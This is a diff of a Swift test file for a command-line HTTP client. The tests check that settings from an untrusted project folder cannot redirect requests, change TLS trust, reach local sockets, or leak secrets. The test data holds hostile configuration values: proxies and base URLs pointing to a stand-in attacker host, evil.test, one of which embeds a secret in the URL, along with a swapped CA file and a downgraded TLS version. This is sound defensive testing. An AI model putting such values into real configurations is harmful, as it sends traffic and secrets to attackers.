@@ -57,43 +57,9 @@ import ValueTree
     private let send = [
         "send", "Vault.open", "door=a", "key={{secret:door}}", "--base-url=https://vault.test",
     ]
-    private static let trust = "it changes where requests go or whom they trust"
-
-    private static let demands: [(text: String, place: String, reason: String)] = [
-        ("proxy = 'http://evil.test:3128'", "1: proxy", trust),
-        ("httpVersion = '1.1'\nproxy = 'none'", "2: proxy", trust),
-        ("[proxies]\n'vault.test' = 'http://evil.test'", "1: proxies", trust),
-        ("caServer = 'evil.pem'", "1: caServer", trust),
-        ("unverifiedServers = ['vault.test']", "1: unverifiedServers", trust),
-        ("clientP12 = 'me.p12'", "1: clientP12", trust),
-        ("clientP12Password = 'x'", "1: clientP12Password", trust),
-        ("clientCertificate = 'me.pem'", "1: clientCertificate", trust),
-        ("clientKey = 'me.pem'", "1: clientKey", trust),
-        ("minimumTLSVersion = '1.0'", "1: minimumTLSVersion", trust),
-        (
-            "baseURL = 'http+unix://%2Frun%2Fapp.sock'", "1: baseURL",
-            "it is a socket of this machine"
-        ),
-        (
-            "groups.Vault.baseURL = '{{s}}://x'\nvariables.s = 'HTTPS+unix'",
-            "1: groups.Vault.baseURL", "it is a socket of this machine"
-        ),
-        ("[variables]\nx = '{{secret:door}}'", "2: variables.x", "it uses a secret"),
-        (
-            "[variables]\na = '{{secret:'\nb = 'door}}'\nc = '{{a}}{{b}}'", "4: variables.c",
-            "it uses a secret"
-        ),
-        ("'auth.password' = '{{secret:door}}'", "1: auth.password", "it uses a secret"),
-        ("baseURL = 'https://evil.test/{{secret:door}}'", "1: baseURL", "it uses a secret"),
-        (
-            "baseURL = 'https://evil.test/{{mine}}'", "1: baseURL",
-            "it uses your own variable `mine`"
-        ),
-    ]
-
-    @Test(arguments: demands.indices)
+    @Test(arguments: HostileSettings.all.indices)
     func noSecretAndNoRequestLeavesFromSend(index: Int) async throws {
-        let (text, place, reason) = Self.demands[index]
+        let (text, place, reason) = HostileSettings.all[index]
         let requests = Requests()
         let trial = answering(trial(text, own: "variables.mine = 'x'"), requests)
         let outcome = try await trial.run(arguments: send)
@@ -110,9 +76,9 @@ import ValueTree
         #expect(requests.all.count == 0)
     }
 
-    @Test(arguments: demands.indices)
+    @Test(arguments: HostileSettings.all.indices)
     func noSecretAndNoRequestLeavesFromTheExplorer(index: Int) async throws {
-        let (text, place, reason) = Self.demands[index]
+        let (text, place, reason) = HostileSettings.all[index]
         let message =
             "/project/Configuration.toml:\(place): counts only once you allow this folder, because "
             + "\(reason); look at the file, then run `cartouche allow /project`"
@@ -221,13 +187,41 @@ import ValueTree
     }
 
     @Test func aFileThatASettingNamesIsAllowedWithIt() async throws {
-        var trial = trial("caServer = '{{dir}}/ca.pem'\nvariables.dir = 'keys'")
+        var trial = trial("caServer = 'keys/ca.pem'")
         trial.configurations["keys/ca.pem"] = "one"
         #expect(try await trial.run("allow").status == .success)
         let before = try await trial.composition().environments.places.configuration()
         trial.configurations["keys/ca.pem"] = "two"
         let after = try await trial.composition().environments.places.configuration()
         #expect([before, after].map { $0.layers.map(\.isTrusted) } == [[true], [false]])
+    }
+
+    @Test func aFileThatAVariableNamesCannotBeAllowed() async throws {
+        let trial = trial("caServer = '{{dir}}/ca.pem'\nvariables.dir = 'keys'")
+        let refusal =
+            "/project/Configuration.toml:1: caServer: a folder that somebody else may have written "
+            + "names its files without variables"
+        for arguments in [send, ["allow"]] {
+            let outcome = try await trial.run(arguments: arguments)
+            #expect(outcome == .init(status: .configuration, output: "", errors: refusal))
+        }
+    }
+
+    @Test func allowMarksWhatUsesThePersonsOwnVariables() async throws {
+        let trial = trial(
+            "baseURL = 'https://evil.test/{{mine}}'",
+            own: "variables.mine = 'x'"
+        )
+        let outcome = try await trial.run("allow")
+        #expect(
+            outcome.output == """
+                /project/Configuration.toml
+                ! baseURL = "https://evil.test/{{mine}}"
+                ! counts only where it is allowed
+                allowed until one of them changes
+
+                """
+        )
     }
 
     @Test func allowShowsEverySettingButNoSecret() async throws {
